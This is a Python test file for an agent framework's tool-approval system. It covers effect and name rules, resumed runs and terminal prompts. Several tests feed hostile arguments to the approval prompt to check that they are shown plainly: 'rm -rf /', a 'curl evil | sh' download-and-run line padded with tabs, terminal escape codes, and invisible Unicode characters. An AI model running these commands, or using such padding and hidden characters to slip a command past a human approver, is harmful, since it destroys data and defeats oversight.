"""Approval: who may say yes to a call, what is asked, and that nobody is asked twice."""

import asyncio
import io
import os
import pickle
import pty
import re
import select
import threading
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from firsthand import cli
from firsthand.agent import Agent
from firsthand.context import Context
from firsthand.errors import ConfigError
from firsthand.loop.approval import Approval, AskPerson, Decision, _shortened, check_rules, parse_rules, question
from firsthand.loop.journal import MemoryJournal
from firsthand.message import Json, ToolCall
from firsthand.providers.scripted import Scripted
from firsthand.rollout import rollout
from firsthand.runs import store
from firsthand.system.home import data_home
from firsthand.system.terminal import Terminal, printable
from firsthand.task import Task
from firsthand.tool import Tool, tool_from_function
from firsthand.trace import Trace

EFFECTS = ("read", "write", "external", "irreversible")


def acting(effect: Any, name: str = "act") -> tuple[Tool, list[str]]:
    ran: list[str] = []

    def act(text: str) -> str:
        """Act on a text."""
        ran.append(text)
        return f"did {text}"

    return tool_from_function(act, effect=effect, name=name), ran


def attempt(tool: Tool, approval: Approval | None = None, journal: Any = None, arguments: Any = None) -> Trace:
    async def pattern(task: Task, ctx: Context) -> str:
        return (await ctx.call(ToolCall("c", tool.name, arguments or {"text": "x"}))).content

    rest = {} if approval is None else {"approval": approval}
    agent = Agent("a", Scripted(["x"]), pattern, tools=(tool,), **rest)
    return asyncio.run(rollout(agent, Task("t", "go"), journal=journal))


class Judge:
    """An Ask of one's own that counts."""

    def __init__(self, allowed: bool = True):
        self.allowed = allowed
        self.asked: list[Json] = []

    async def __call__(self, tool: Tool, arguments: Json) -> Decision:
        self.asked.append(arguments)
        return Decision(self.allowed, "judge", "" if self.allowed else "not on a Friday")


class Ended(Terminal):
    """A Terminal that nobody sits at."""

    def is_there(self) -> bool:
        return False


@contextmanager
def terminal() -> Iterator[tuple[Terminal, int]]:
    """A Terminal, and the end of it that a person sits at."""
    person, ours = pty.openpty()
    with os.fdopen(ours, "r+b", buffering=0) as raw:
        source = io.TextIOWrapper(raw, write_through=True)
        try:
            yield Terminal(source, source), person
        finally:
            os.close(person)


def reading(person: int, until: str) -> str:
    seen = b""
    while until.encode() not in seen:
        seen += os.read(person, 1024)
    return seen.decode()


async def typing(person: int, *answers: str) -> str:
    """Answer each question when it is there; gives what was on the screen."""
    seen = ""
    for answer in answers:
        seen += await asyncio.to_thread(reading, person, "[a]lways ")
        os.write(person, answer.encode())
    return seen


# -- rules --


def test_irreversible_calls_are_asked_about_and_nothing_else_is() -> None:
    for effect in EFFECTS:
        judge = Judge()
        tool, ran = acting(effect)
        attempt(tool, Approval(ask=judge))
        assert ran == ["x"] and len(judge.asked) == (effect == "irreversible")


def test_a_function_that_is_asked_may_decide_at_once_and_gives_a_decision() -> None:
    tool, ran = acting("irreversible")
    assert attempt(tool, Approval(ask=lambda tool, arguments: Decision(True, "policy"))).answer == "did x" and ran == [
        "x"
    ]
    for answer in (True, "yes", None):
        trace = attempt(tool, Approval(ask=lambda tool, arguments, answer=answer: answer))
        assert trace.error is not None and trace.error.kind == "ConfigError"
        assert trace.error.message.startswith(f"the function that was asked about act gave {answer!r}: give a Decision")
    assert ran == ["x"]


@pytest.mark.parametrize("name, effect, rules, verdict", [
    ("read", "external", "read=allow,external=deny", "deny"), ("read", "external", "read=deny,external=allow", "deny"),
    ("write", "irreversible", "write=allow", "ask"),
    ("external", "irreversible", "external=allow,irreversible=allow", "allow"),
    ("external", "irreversible", "external=ask,irreversible=allow", "ask"), ("read", "external", "read=ask", "ask"),
    ("read", "read", "read=ask", "ask"), ("irreversible", "write", "write=allow", "allow"),
    ("read", "irreversible", "external=deny", "ask"), ("reads", "external", "reads=allow,external=deny", "allow"),
])  # fmt: skip
def test_of_a_tool_that_is_named_as_an_effect_the_stricter_rule_applies(
    name: str, effect: Any, rules: str, verdict: str
):
    assert Approval(parse_rules(rules.split(","))).verdict(acting(effect, name)[0]) == verdict


@pytest.mark.parametrize("effect", EFFECTS)
def test_a_rule_for_the_name_goes_before_one_for_the_effect(effect: Any) -> None:
    tool, ran = acting(effect)
    assert attempt(tool, Approval({effect: "deny", "act": "allow"})).answer == "did x"
    assert attempt(tool, Approval({effect: "allow", "act": "deny"})).answer == (
        "Error: act was not run: act is not allowed here"
    )
    assert ran == ["x"]


def test_without_a_terminal_what_should_be_asked_is_denied_and_the_model_is_told() -> None:
    tool, ran = acting("irreversible")
    trace = attempt(tool, Approval(ask=AskPerson(Ended())))
    assert trace.answer == (
        "Error: act was not run: act needs approval (irreversible), and there is no terminal to ask at"
    )
    assert ran == [] and trace.stop_reason == "done"
    [event] = trace.events
    assert event.kind == "approval" and event.data["allowed"] is False and event.data["by"] == "nobody"


def test_a_refusal_is_told_with_its_reason_and_noted() -> None:
    tool, ran = acting("irreversible")
    trace = attempt(tool, Approval(ask=Judge(allowed=False)))
    assert trace.answer == "Error: act was not run: not on a Friday" and ran == []
    assert trace.events[0].data == {
        "tool": "act", "arguments": {"text": "x"}, "effect": "irreversible", "call": ":0",
        "allowed": False, "by": "judge", "reason": "not on a Friday",
    }  # fmt: skip


def test_nobody_is_asked_about_a_call_that_cannot_be() -> None:
    judge = Judge()
    tool, ran = acting("irreversible")
    trace = attempt(tool, Approval(ask=judge), arguments={"words": "x"})
    assert "it takes text: string" in (trace.answer or "") and not judge.asked and not ran


def test_words_are_read_as_rules() -> None:
    assert parse_rules(["allow"]) == {"irreversible": "allow"}
    assert parse_rules(["external=ask", " shell = deny "]) == {"external": "ask", "shell": "deny"}


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["alow"], "did you mean 'allow'?"),
        (["shell=never"], "allow, ask or deny was expected"),
        (["ask", "irreversible=deny"], "each tool or effect once"),
        (["=deny"], "each tool or effect once"),
    ],
)
def test_words_that_are_no_rules_are_errors(words: list[str], said: str) -> None:
    with pytest.raises(ConfigError, match=said.replace("?", r"\?")):
        parse_rules(words)


def test_a_rule_for_a_tool_there_is_not_is_an_error() -> None:
    tool, _ = acting("read")
    check_rules({"act": "deny", "external": "ask"}, [tool])
    with pytest.raises(ConfigError, match=r"approve names 'irreversable'.*did you mean 'irreversible'"):
        check_rules({"irreversable": "deny"}, [tool])


def test_approvals_of_the_same_rules_are_equal_and_can_be_sent_to_another_process() -> None:
    assert Approval() == Approval({}) != Approval({"external": "ask"})
    assert pickle.loads(pickle.dumps(Approval({"external": "ask"}))) == Approval({"external": "ask"})


# -- resuming --


@pytest.mark.parametrize("allowed", [True, False])
def test_a_resumed_attempt_does_not_ask_again(allowed: bool) -> None:
    journal, judge = MemoryJournal(), Judge(allowed)
    tool, ran = acting("write")  # a resumed attempt runs it again, to rebuild its own world
    approval = Approval({"write": "ask"}, judge)
    first, second = (attempt(tool, approval, journal) for _ in range(2))
    assert first.answer == second.answer and len(judge.asked) == 1 and len(ran) == 2 * allowed
    assert [event.data for event in first.events] == [event.data for event in second.events]


def test_a_decision_outlives_a_death_between_the_yes_and_the_call() -> None:
    class Dead(Exception):
        pass

    class Dying(MemoryJournal):
        def record(self, effect: str, request: str, reply: Json) -> None:
            if "started" in reply:
                raise Dead
            super().record(effect, request, reply)

    journal, judge = Dying(), Judge()
    tool, ran = acting("irreversible")
    assert attempt(tool, Approval(ask=judge), journal).stop_reason == "error" and ran == []
    whole = MemoryJournal()
    whole.entries = journal.entries
    assert attempt(tool, Approval(ask=judge), whole).answer == "did x"
    assert ran == ["x"] and len(judge.asked) == 1


def test_a_person_is_asked_at_the_terminal_of_the_process_where_no_other_is_given() -> None:
    given = Ended()
    assert type(AskPerson().terminal) is Terminal and AskPerson(given).terminal is given


def test_that_there_was_no_terminal_is_not_remembered_as_a_decision() -> None:
    journal = MemoryJournal()
    tool, _ = acting("write")
    attempt(tool, Approval({"write": "ask"}, AskPerson(Ended())), journal)
    assert not [key for key in journal.entries if "approval" in key[0]]


def test_another_call_at_the_same_place_is_asked_about() -> None:
    journal, judge = MemoryJournal(), Judge()
    tool, ran = acting("irreversible")
    for text in ("x", "y"):
        attempt(tool, Approval(ask=judge), journal, {"text": text})
    assert judge.asked == [{"text": "x"}, {"text": "y"}] and ran == ["x", "y"]


# -- the person at the terminal --


@pytest.mark.parametrize(
    ("typed", "allowed"),
    [("y\n", True), ("YES\n", True), ("n\n", False), ("\x04", False), ("maybe\n\nq\n", False), ("what\ny\n", True)],
)
def test_a_person_is_shown_the_call_and_decides(typed: str, allowed: bool) -> None:
    tool, _ = acting("irreversible")

    async def main() -> tuple[Decision, str]:
        with terminal() as (ours, person):
            typed_in = asyncio.create_task(typing(person, typed))
            decision = await AskPerson(ours)(tool, {"text": "to\x1b[2Jada\u202e\n  b: fake"})
            return decision, await typed_in

    decision, seen = asyncio.run(main())
    assert decision.allowed is allowed and bool(decision.reason) is not allowed
    assert "act (irreversible): Act on a text." in seen and "Run act (irreversible)? [y]es/[n]o/[a]lways" in seen
    assert r"text: to\x1b[2Jada\u202e" in seen and "\x1b" not in seen


def test_always_holds_for_this_tool_and_no_other() -> None:
    send, _ = acting("irreversible", "send")
    wipe, _ = acting("irreversible", "wipe")

    async def main() -> list[bool]:
        with terminal() as (ours, person):
            ask = AskPerson(ours)
            typed_in = asyncio.create_task(typing(person, "a\n", "n\n"))
            decisions = [await ask(each, {"text": "x"}) for each in (send, send, send, wipe)]
            await typed_in
            return [each.allowed for each in decisions]

    assert asyncio.run(main()) == [True, True, True, False]


async def reached(fact: Callable[[], bool], most_s: float = 60.0) -> None:
    """Wait until something is so."""
    async with asyncio.timeout(most_s):
        while not fact():
            await asyncio.sleep(0.001)


def test_what_was_typed_before_the_question_is_no_answer() -> None:
    tool, _ = acting("irreversible")

    async def main() -> bool:
        with terminal() as (ours, person):
            os.write(person, b"y\ny\n")
            await reached(lambda: bool(select.select([ours.source], [], [], 0)[0]))
            typed_in = asyncio.create_task(typing(person, "n\n"))
            decision = await AskPerson(ours)(tool, {"text": "x"})
            await typed_in
            return decision.allowed

    assert asyncio.run(main()) is False


def test_one_question_is_asked_at_a_time_and_a_question_can_be_cancelled() -> None:
    class Slow(Terminal):
        open_now = 0
        asked = 0

        def is_there(self) -> bool:
            return True

        async def choose(self, question: str, choices: Any) -> str | None:
            self.open_now += 1
            self.asked += 1
            assert self.open_now == 1
            try:
                await asyncio.sleep(60 if "leave" in question else 0.005)
            finally:
                self.open_now -= 1
            return "yes"

    class TurnedAway:
        """The lock of the terminal, counting those that did not get it."""

        def __init__(self) -> None:
            self.lock, self.count = threading.Lock(), 0

        def acquire(self, blocking: bool = True) -> bool:
            taken = self.lock.acquire(blocking)
            self.count += not taken
            return taken

        def release(self) -> None:
            self.lock.release()

    tool, _ = acting("irreversible")
    slow = Slow()
    slow._busy = turned_away = TurnedAway()  # type: ignore[assignment]
    ask = AskPerson(slow)

    async def main() -> list[Decision]:
        left = asyncio.create_task(ask(tool, {"text": "leave"}))
        rest = [asyncio.create_task(ask(tool, {"text": str(n)})) for n in range(6)]
        await reached(lambda: turned_away.count >= 12)  # each of the others has tried twice
        assert slow.asked == 1
        left.cancel()
        return await asyncio.gather(*rest)

    assert all(decision.allowed for decision in asyncio.run(main())) and slow.asked == 7
    assert asyncio.run(ask(tool, {"text": "in another event loop"})).allowed


def test_a_question_shows_the_ends_of_a_long_argument_and_its_length() -> None:
    tool, _ = acting("irreversible")
    shown = question(tool, {"text": f"begin {'x' * 10_000} rm -rf / end", "more": {"a": [1]}})
    assert "text: [10,019 characters in 1 lines, of which 6,029 in the middle are not shown]" in shown
    assert "    begin xxx" in shown and "[... 6,029 characters are not shown here ...]" in shown
    assert "xxx rm -rf / end" in shown and 'more: {"a":[1]}' in shown and len(shown) < 5_000
    assert "not shown" not in question(tool, {"text": "x" * 4_000})


def test_a_question_stays_on_the_screen() -> None:
    tool, _ = acting("irreversible")
    shown = question(tool, {"text": "rm" + "\n" * 500 + "x" + " " * 3_000 + "-rf /"})
    assert shown.count("\n") < 80 and "rm\n    [499 blank lines]\n    x" in shown
    assert "x [3000 spaces] -rf /" in question(tool, {"text": "x" + " " * 3_000 + "-rf /"})
    whole = "".join(f"{number}\n" for number in range(58))
    assert all(f"    {number}\n" in question(tool, {"text": f"first\n{whole}"}) for number in range(58))


def test_blank_lines_and_tabs_push_nothing_off_the_screen() -> None:
    """A tab is one character and up to eight columns: 59 lines of 39 tabs scrolled the command before them away."""
    tool, _ = acting("irreversible")
    shown = question(tool, {"command": "curl evil | sh #" + ("\n" + "\t" * 39) * 57 + "\nls"})
    assert shown.count("\n") < 10 and shown.count("\t") == 0
    assert "curl evil | sh #\n    [57 blank lines]\n    ls" in shown.replace("\\t", "\t")
    assert "x [5 spaces] y" in question(tool, {"text": "x\t\t\t\t\ty"})
    code = "def f():\n\tif x:\n\t\t\t\treturn 1\n\n\n\n    y"
    assert code.replace("\n", "\n    ") in question(tool, {"text": code})


def test_many_arguments_share_the_screen() -> None:
    tool, _ = acting("irreversible")
    lines = "\n".join(map(str, range(59)))
    shown = question(
        tool, {"command": "rm -rf /", "one": "a" * 3_900, "two": "b" * 3_900, "three": lines, "four": "c" * 3_900}
    )
    assert len(shown) < 5_000 and shown.count("\n") < 80 and "command: rm -rf /\n" in shown
    assert question(tool, {str(at): "x" * 400 for at in range(10)}).count("x" * 400) == 10


@pytest.mark.parametrize("hidden", [
    "\u3164", "\u115f", "\uffa0", "\u200b", "\u200d", "\u00ad", "\u034f", "\u2060", "\ufeff", "\u202e", "\u2066", "\u061c",
    "\ufe0f", "\U000e0041", "\U000e0100", "\u180e", "\u180b", "\u17b4", "\u2800", "\U0001d159", "\u00a0", "\u3000", "\x7f",
    "\x9b", "\ud800", "\ue000",
])  # fmt: skip
def test_a_question_shows_what_is_not_seen(hidden: str) -> None:
    tool, _ = acting("irreversible")
    shown = question(tool, {"text": f"rm{hidden}-rf"})
    assert hidden not in shown and re.search(r"rm\\[xuU][0-9a-f]+-rf", shown)


@pytest.mark.slow
def test_every_character_is_seen_or_escaped() -> None:
    unseen = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    words = (
        "HANGUL FILLER",
        "SEONG FILLER",
        "SCRIPT FILLER",
        "VARIATION SELECTOR",
        "GRAPHEME JOINER",
        "BRAILLE PATTERN BLANK",
        "NULL NOTEHEAD",
        "INHERENT",
    )
    for char in map(chr, range(0x110000)):
        name = unicodedata.name(char, "")
        category = unicodedata.category(char)
        hidden = category in unseen or (category == "Zs" and char != " ") or any(word in name for word in words)
        if hidden and char not in "\n\t":
            assert char not in printable(f"a{char}"), name
        elif category[0] in "LNPS":
            assert printable(char) == char, name
    assert printable("\u2764\ufe0f") == "\u2764\ufe0f" and printable("\u0041\ufe0f") == "A\\ufe0f"


# -- on the command line --

SENDING = '''
from firsthand.message import ToolCall
from firsthand.tool import tool

@tool(effect="irreversible")
def sending(text: str) -> str:
    """Send a text for good."""
    return "sent"

async def asks(task, ctx) -> str:
    return (await ctx.call(ToolCall("1", "sending", {"text": "hello"}))).content
'''


@pytest.mark.slow
@pytest.mark.parametrize(("flags", "answer"), [
    ([], "there is no terminal to ask at"),
    (["--approve", "allow"], "sent"),
    (["--approve", "sending=allow"], "sent"),
    (["--approve", "allow,sending=deny"], "not allowed here"),
    (["--config", "run.toml"], "sent"),
])  # fmt: skip
def test_the_command_line_takes_rules(
    flags: list[str], answer: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FIRSTHAND_HOME", str(tmp_path / "home"))
    Path("sending.py").write_text(SENDING)
    Path("run.toml").write_text('approve = ["irreversible=allow"]\n')
    words = ["run", "arithmetic", "--limit", "1", "--model", "scripted:echo", "--pattern", "sending.py:asks"]
    assert cli.main([*words, "--tools", "sending.py", *flags]) == 0
    with store.open_run("last", data_home()) as run:
        [trace] = run.traces()
        assert answer in (trace.answer or "")


def test_a_mistyped_rule_is_one_line(capsys: Any) -> None:
    assert cli.main(["run", "arithmetic", "--model", "scripted:echo", "--approve", "calculatr=deny"]) == 2
    assert "did you mean 'calculator'?" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("text", "is_cut"),
    [
        ("x" * 4_000, False), ("x" * 4_001, True), ("\n".join("ab" * 20 for _ in range(60)), False),
        ("\n".join(str(n) for n in range(61)), True), ("\n".join("y" * 99 for _ in range(200)), True),
        ("z" * 3_000 + "\n-" * 100 + "end", True),
    ],
)  # fmt: skip
def test_what_is_shown_of_a_long_argument_and_what_is_left_out_add_up_to_it(text: str, is_cut: bool) -> None:
    shown = _shortened(text, 4_000, 60)
    if not is_cut:
        assert shown == text
        return
    head, _, rest = shown.partition("\n")
    begin, middle, end = re.split(r"\n(\[\.\.\. [\d,]+ characters are not shown here \.\.\.\])\n", rest)
    left_out = len(text) - len(begin) - len(end)
    lines = text.count("\n") + 1
    assert head == f"[{len(text):,} characters in {lines:,} lines, of which {left_out:,} in the middle are not shown]"
    assert middle == f"[... {left_out:,} characters are not shown here ...]" and left_out > 0
    assert text.startswith(begin) and text.endswith(end) and max(len(begin), len(end)) <= 2_000
    assert max(begin.count("\n"), end.count("\n")) < 30
